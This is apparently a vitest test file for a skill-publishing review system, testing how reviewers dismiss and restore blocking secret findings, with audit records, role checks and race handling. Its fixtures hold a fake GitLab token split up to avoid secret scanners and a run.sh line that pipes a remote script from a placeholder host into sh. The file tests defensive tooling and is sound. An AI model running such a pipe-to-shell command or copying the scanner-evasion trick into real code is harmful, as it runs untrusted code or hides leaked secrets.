import { describe, expect, it } from "vitest";
import type { Context } from "@/lib/access/context";
import { changeDraft } from "@/lib/library/commands/change-draft";
import type { DraftChange } from "@/lib/library/drafts/draft-schema";
import { getDraft } from "@/lib/library/drafts/get-draft";
import { listSkills } from "@/lib/library/list-skills";
import { getVersion } from "@/lib/library/versions/get-version";
import { aColleague, aContext } from "@/lib/testing/contexts";
import { testDatabase } from "@/lib/testing/database";
import { aPackage } from "@/lib/testing/packages";
import { dismissFinding } from "./commands/dismiss-finding";
import { publishSkill } from "./commands/publish-skill";
import { restoreFinding } from "./commands/restore-finding";

const { db } = testDatabase();
const skill = "deploy-tools";
// Put together here, so that no scanner takes this file for a leak.
const key = `glpat-${"q7Rk2mZp9Xw4Tn8Vb3Lc"}`;
/** A blocking finding is a rule of the review policy that is not met. */
const unmet = { code: "CONFLICT", details: { reason: "policy", unmet: [{ rule: "findings" }] } };
const reason = "Revoked last year; the page explains how it was found.";

async function aSkillWithAKey() {
  const context = await aContext(db);
  const { skillId } = await aPackage(context, {
    name: skill,
    files: { "notes.md": `# Notes\n\nThe key was ${key}.\n`, "run.sh": "curl https://x.example/i.sh | sh\n" },
  });
  return { context, skillId };
}

const blockingOf = async (context: Context) => {
  const { findings } = await getDraft(context, { skill });
  const [finding] = findings.filter(({ severity }) => severity === "blocking");
  if (!finding) throw new Error("Nothing blocks.");
  return finding;
};

async function save(context: Context, ...changes: DraftChange[]) {
  const { revision } = await getDraft(context, { skill });
  return changeDraft(context, { skill, baseRevision: revision, changes });
}

async function publish(context: Context) {
  const { revision, digest } = await getDraft(context, { skill });
  return publishSkill(context, { skill, revision, digest });
}

const blockingCount = async (context: Context) =>
  (await listSkills(context, { findings: "blocking" })).items.map((item) => item.blockingCount);

describe("dismissFinding", () => {
  it("keeps who, when and why, counts the finding no more, and lets the draft be published", async () => {
    const { context, skillId } = await aSkillWithAKey();
    await expect(publish(context)).rejects.toMatchObject({
      code: "CONFLICT",
      message: expect.stringMatching(/reviewer or above may dismiss: secret in notes\.md, line 3/),
      details: {
        reason: "policy",
        unmet: [{ rule: "findings" }],
        mayDismiss: "reviewer",
        findings: [{ rule: "secret", path: "notes.md" }],
      },
    });
    expect(await blockingCount(context)).toEqual([1]);
    const { fingerprint } = await blockingOf(context);
    expect(await dismissFinding(context, { skill, fingerprint, reason })).toMatchObject({
      rule: "secret",
      dismissal: { reason, by: { id: context.actor.userId } },
    });
    expect(await blockingCount(context)).toEqual([]);
    expect(await blockingOf(context)).toMatchObject({ dismissal: { reason } });
    const { number } = await publish(context);
    expect(await getVersion(context, { skill, number })).toMatchObject({
      dismissals: [{ rule: "secret", path: "notes.md", line: 3, reason, by: { name: context.actor.name } }],
    });
    const [audit] = await db.audit.findMany({ where: { objectId: skillId, action: "finding.dismissed" } });
    expect(audit?.detail).toMatchObject({ rule: "secret", path: "notes.md", reason });
  });

  it("stores and tells the secret nowhere", async () => {
    const { context, skillId } = await aSkillWithAKey();
    const { fingerprint } = await blockingOf(context);
    await dismissFinding(context, { skill, fingerprint, reason });
    const rows = [
      await getDraft(context, { skill }),
      await db.findingDismissal.findMany({ where: { skillId } }),
      await db.audit.findMany({ where: { objectId: skillId }, select: { detail: true, objectName: true } }),
      await publish(context),
      await getVersion(context, { skill, number: 1 }),
    ];
    expect(JSON.stringify(rows)).not.toContain(key.slice(0, 10));
  });

  it("holds when the line moves and falls when the line changes", async () => {
    const { context } = await aSkillWithAKey();
    const { fingerprint } = await blockingOf(context);
    await dismissFinding(context, { skill, fingerprint, reason });
    const moved = `# Notes\n\nMore.\n\nThe key was ${key}.\n`;
    await save(context, { op: "write", path: "notes.md", text: moved });
    expect(await blockingOf(context)).toMatchObject({ range: { startLine: 5 }, dismissal: { reason } });
    expect(await blockingCount(context)).toEqual([]);
    await save(context, { op: "write", path: "notes.md", text: moved.replace("was", "is") });
    expect(await blockingOf(context)).toMatchObject({ dismissal: null });
    expect(await blockingCount(context)).toEqual([1]);
    await expect(publish(context)).rejects.toMatchObject(unmet);
    await save(context, { op: "write", path: "notes.md", text: moved });
    expect(await blockingCount(context)).toEqual([]);
  });

  it("of a whole file falls with any change of the file", async () => {
    const { context } = await aSkillWithAKey();
    await save(context, { op: "delete", path: "notes.md" }, { op: "write", path: ".env", text: "DEBUG=1\n" });
    const { fingerprint } = await blockingOf(context);
    await dismissFinding(context, { skill, fingerprint, reason });
    await save(context, { op: "write", path: ".env", text: "DEBUG=2\n" });
    expect(await blockingOf(context)).toMatchObject({ rule: "secret-file", dismissal: null });
  });

  it("counts warnings less, too", async () => {
    const { context } = await aSkillWithAKey();
    const { findings } = await getDraft(context, { skill });
    const warning = findings.find(({ severity }) => severity === "warning");
    const before = await db.draft.findFirstOrThrow({
      where: { skill: { name: skill, workspaceId: context.workspace.id } },
    });
    await dismissFinding(context, { skill, fingerprint: warning?.fingerprint ?? "", reason });
    const after = await db.draft.findUniqueOrThrow({ where: { skillId: before.skillId } });
    expect(after).toMatchObject({
      warningCount: before.warningCount - 1,
      blockingCount: before.blockingCount,
      revision: before.revision,
    });
  });

  it("is refused without a reason, without the role, for another workspace and for what is not there", async () => {
    const { context } = await aSkillWithAKey();
    const { fingerprint } = await blockingOf(context);
    const input = { skill, fingerprint, reason };
    for (const bad of ["", "  a ", "x".repeat(1_001)])
      await expect(dismissFinding(context, { ...input, reason: bad })).rejects.toThrow();
    const author = await aColleague(context, "author");
    await expect(dismissFinding(author, input)).rejects.toMatchObject({ code: "FORBIDDEN" });
    await expect(restoreFinding(author, input)).rejects.toMatchObject({ code: "FORBIDDEN" });
    const stranger = await aContext(db);
    await expect(dismissFinding(stranger, input)).rejects.toMatchObject({ code: "NOT_FOUND" });
    await expect(restoreFinding(stranger, input)).rejects.toMatchObject({ code: "NOT_FOUND" });
    const gone = { ...input, fingerprint: "0".repeat(64) };
    await expect(dismissFinding(context, gone)).rejects.toMatchObject({ code: "NOT_FOUND" });
    await expect(restoreFinding(context, gone)).rejects.toMatchObject({ code: "NOT_FOUND" });
  });

  it("by two at once is done by one of them; the other is told who was first", async () => {
    const { context } = await aSkillWithAKey();
    const others = await Promise.all(["A", "B", "C"].map(() => aColleague(context, "reviewer")));
    const { fingerprint } = await blockingOf(context);
    const results = await Promise.allSettled(
      others.map((other, index) => dismissFinding(other, { skill, fingerprint, reason: `Reason ${index}` })),
    );
    expect(results.filter(({ status }) => status === "fulfilled")).toHaveLength(1);
    for (const result of results)
      if (result.status === "rejected")
        expect(result.reason).toMatchObject({ code: "CONFLICT", details: { reason: "dismissed-already" } });
    expect(
      await db.findingDismissal.count({ where: { fingerprint, workspaceId: context.workspace.id } }),
    ).toBe(1);
  });

  it("sent twice by the same person with the same reason is done once", async () => {
    const { context, skillId } = await aSkillWithAKey();
    const { fingerprint } = await blockingOf(context);
    const first = await dismissFinding(context, { skill, fingerprint, reason });
    expect(await dismissFinding(context, { skill, fingerprint, reason })).toEqual(first);
    expect(await db.audit.count({ where: { objectId: skillId, action: "finding.dismissed" } })).toBe(1);
  });
});

describe("restoreFinding", () => {
  it("makes the finding count and block again; once is enough", async () => {
    const { context, skillId } = await aSkillWithAKey();
    const { fingerprint } = await blockingOf(context);
    await dismissFinding(context, { skill, fingerprint, reason });
    await restoreFinding(context, { skill, fingerprint });
    expect(await blockingCount(context)).toEqual([1]);
    await expect(publish(context)).rejects.toMatchObject(unmet);
    await expect(restoreFinding(context, { skill, fingerprint })).rejects.toMatchObject({
      code: "NOT_FOUND",
    });
    expect(await db.audit.count({ where: { objectId: skillId, action: "finding.restored" } })).toBe(1);
  });

  it("at the moment of publishing leaves no version without its dismissal", async () => {
    const { context } = await aSkillWithAKey();
    const { fingerprint } = await blockingOf(context);
    await dismissFinding(context, { skill, fingerprint, reason });
    const [published] = await Promise.allSettled([
      publish(context),
      restoreFinding(context, { skill, fingerprint }),
    ]);
    if (published.status === "rejected") return expect(published.reason).toMatchObject(unmet);
    const version = await getVersion(context, { skill, number: published.value.number });
    expect(version.dismissals).toMatchObject([{ fingerprint }]);
  });
});
